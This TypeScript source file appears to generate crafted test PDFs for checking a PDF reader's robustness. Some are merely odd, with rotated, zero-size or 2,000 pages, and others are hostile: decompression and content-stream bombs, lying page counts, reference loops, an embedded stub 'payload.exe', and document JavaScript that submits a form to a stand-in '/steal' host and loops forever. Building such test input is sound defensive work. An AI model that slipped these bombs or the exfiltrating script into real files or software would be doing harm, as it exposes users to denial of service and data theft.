// Crafted PDFs: valid files that are merely odd (JavaScript, attachments, rotated or zero-size
// pages, 2,000 pages) and hostile ones (a decompression bomb, a lying page count, reference loops,
// a content-stream bomb), each drawing known text so that a reader's output can be checked.
import { createDeflate } from 'node:zlib';
import { HELVETICA, flateObject, pdfString, streamObject, textContent, writePdf, type PdfObject } from './pdf-writer.ts';

/** Settings of a text document: one list of lines per page. */
interface TextDocOptions {
  /** Entries added to every page dictionary (e.g. `/Rotate 90`). */
  pageExtra?: (index: number) => string;
  mediaBox?: string;
  catalogExtra?: string;
  /** Objects appended after the pages; the first is object `firstExtra` (see below). */
  extra?: PdfObject[];
  /** The page tree's /Count when it should lie. */
  count?: number | string;
  /** Content stream of page `index` instead of its text. */
  content?: (index: number, lines: readonly string[]) => string;
}

/** Object number of the first `extra` object of a text document of `pages` pages. */
export const firstExtra = (pages: number) => 4 + pages * 2;

/** A document with text pages: 1 catalog, 2 page tree, 3 font, then a page and its content per page. */
export function textDocument(pages: readonly (readonly string[])[], o: TextDocOptions = {}): Buffer {
  const kids = pages.map((_, i) => `${4 + i * 2} 0 R`).join(' ');
  const objects: PdfObject[] = [
    { body: `<< /Type /Catalog /Pages 2 0 R ${o.catalogExtra ?? ''} >>` },
    { body: `<< /Type /Pages /Kids [${kids}] /Count ${o.count ?? pages.length} >>` },
    { body: HELVETICA },
  ];
  pages.forEach((lines, i) => {
    objects.push({ body: `<< /Type /Page /Parent 2 0 R /MediaBox ${o.mediaBox ?? '[0 0 595 842]'} /Resources << /Font << /F1 3 0 R >> >> /Contents ${5 + i * 2} 0 R ${o.pageExtra?.(i) ?? ''} >>` });
    objects.push(flateObject(o.content?.(i, lines) ?? textContent(lines)));
  });
  return writePdf([...objects, ...(o.extra ?? [])]);
}

/** JavaScript run on open, on page open, and as a named document script. */
export function withJavaScript(lines: readonly string[]): Buffer {
  const js = pdfString("app.alert('hello'); this.submitForm('http://198.51.100.1/steal'); while (true) {}");
  const pages = [lines];
  const n = firstExtra(pages.length);
  return textDocument(pages, {
    catalogExtra: `/OpenAction << /S /JavaScript /JS ${js} >> /Names << /JavaScript ${n} 0 R >>`,
    pageExtra: () => `/AA << /O << /S /JavaScript /JS ${js} >> >>`,
    extra: [{ body: `<< /Names [(init) << /S /JavaScript /JS ${n + 1} 0 R >>] >>` }, streamObject("app.launchURL('http://198.51.100.1/', true);")],
  });
}

/** An embedded file (in the name tree and as a page annotation): an executable, and a PDF inside the PDF. */
export function withAttachments(lines: readonly string[], innerPdf: Uint8Array): Buffer {
  const pages = [lines];
  const n = firstExtra(pages.length);
  return textDocument(pages, {
    catalogExtra: `/Names << /EmbeddedFiles << /Names [(payload.exe) ${n} 0 R (inner.pdf) ${n + 2} 0 R] >> >>`,
    pageExtra: () => `/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [72 72 92 92] /FS ${n + 2} 0 R /Contents (inner) >>]`,
    extra: [
      { body: `<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F ${n + 1} 0 R >> >>` },
      streamObject(Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(512, 0x41)]), '/Type /EmbeddedFile'),
      { body: `<< /Type /Filespec /F (inner.pdf) /UF (inner.pdf) /EF << /F ${n + 3} 0 R >> >>` },
      flateObject(innerPdf, '/Type /EmbeddedFile /Subtype /application#2Fpdf'),
    ],
  });
}

/** Pages turned by /Rotate (90, 180, 270, or an odd multiple such as -90 or 450). */
export const rotated = (pages: readonly (readonly string[])[], rotate: number) => textDocument(pages, { pageExtra: () => `/Rotate ${rotate}` });

/** Text drawn upside down (a 180 degree turn in the content), as a scanner that fed the page the wrong way round. */
export const upsideDown = (pages: readonly (readonly string[])[]) =>
  textDocument(pages, { content: (_, lines) => `q -1 0 0 -1 595 842 cm ${textContent(lines)} Q` });

/** A page with no area (/MediaBox [0 0 0 0]), or a page far larger than any sheet. */
export const oddSize = (pages: readonly (readonly string[])[], mediaBox: string) => textDocument(pages, { mediaBox });

/** `count` pages of text, each saying which page it is (a long annex). */
export function manyPages(count: number, lines: readonly string[]): Buffer {
  return textDocument(Array.from({ length: count }, (_, i) => [`Annex page ${i + 1} of ${count}`, ...lines.slice(0, 3)]));
}

/** A page tree whose /Count claims far more pages than it holds. */
export const lyingCount = (pages: readonly (readonly string[])[], count: number) => textDocument(pages, { count });

/** A page tree that contains itself: object 2 lists itself among its kids. */
export function pageTreeLoop(lines: readonly string[]): Buffer {
  const objects: PdfObject[] = [
    { body: '<< /Type /Catalog /Pages 2 0 R >>' },
    { body: '<< /Type /Pages /Kids [4 0 R 2 0 R 6 0 R] /Count 3 >>' },
    { body: HELVETICA },
    { body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>' },
    flateObject(textContent(lines)),
    { body: '<< /Type /Pages /Parent 2 0 R /Kids [6 0 R 2 0 R] /Count 2 >>' },
  ];
  return writePdf(objects);
}

/** References that point at each other: /Resources and a stream's /Length resolve in a circle. */
export function referenceLoop(lines: readonly string[]): Buffer {
  const objects: PdfObject[] = [
    { body: '<< /Type /Catalog /Pages 2 0 R /Outlines 7 0 R >>' },
    { body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 5 0 R /Contents 4 0 R >>' },
    streamObject(textContent(lines), '', '9 0 R'),
    { body: '6 0 R' },
    { body: '5 0 R' },
    { body: '<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>' },
    { body: '<< /Title (loop) /Parent 7 0 R /Next 8 0 R /Prev 8 0 R /First 8 0 R /Dest [3 0 R /Fit] >>' },
    { body: '10 0 R' },
    { body: '9 0 R' },
  ];
  return writePdf(objects);
}

/** A content stream of millions of tiny path operators that Flate squeezes to a few KB. */
export function contentBomb(lines: readonly string[], ops: number): Buffer {
  const path = '0 0 m 1 1 l S\n'.repeat(ops);
  return textDocument([lines], { content: (_, l) => `${textContent(l)}\n${path}` });
}

/**
 * A decompression bomb: one page that is a `side` x `side` 8-bit grey image of zeros (400 MB
 * decoded at 20,000 pixels a side), Flate-compressed to ~0.4 MB, with no text over it.
 */
export async function imageBomb(side: number, label = ''): Promise<Buffer> {
  return onePageImage(await deflateZeros(side * side), side, 'FlateDecode', label);
}

/** A page whose one image is a JPEG claiming `side` x `side` pixels (its frame header rewritten), as a scan would be stored. */
export function jpegBomb(jpeg: Uint8Array, side: number, label = ''): Buffer {
  const data = Buffer.from(jpeg);
  for (let i = 2; i + 9 < data.length; ) {
    const marker = data[i + 1]!;
    if (marker >= 0xc0 && marker <= 0xc2) {
      data.writeUInt16BE(side, i + 5);
      data.writeUInt16BE(side, i + 7);
      break;
    }
    i += 2 + data.readUInt16BE(i + 2);
  }
  return onePageImage(data, side, 'DCTDecode', label);
}

/** A one-page PDF whose page is one `side` x `side` grey image filling it, stored under `filter`. */
function onePageImage(image: Buffer, side: number, filter: 'FlateDecode' | 'DCTDecode', label: string): Buffer {
  const objects: PdfObject[] = [
    { body: '<< /Type /Catalog /Pages 2 0 R >>' },
    { body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im0 5 0 R >> >> /Contents 4 0 R >>' },
    streamObject(`% ${label}\nq 595 0 0 842 0 0 cm /Im0 Do Q`), // the label makes each copy its own bytes
    streamObject(image, `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /${filter}`),
  ];
  return writePdf(objects);
}

/** Deflates `bytes` zero bytes a megabyte at a time (never holding the decoded image). */
function deflateZeros(bytes: number): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const z = createDeflate({ level: 9 });
    const out: Buffer[] = [];
    z.on('data', (c: Buffer) => out.push(c));
    z.on('end', () => resolve(Buffer.concat(out)));
    z.on('error', reject);
    const chunk = Buffer.alloc(1 << 20);
    let left = bytes;
    const pump = () => {
      while (left > 0) {
        const n = Math.min(left, chunk.length);
        left -= n;
        if (!z.write(n === chunk.length ? chunk : chunk.subarray(0, n))) return void z.once('drain', pump);
      }
      z.end();
    };
    pump();
  });
}
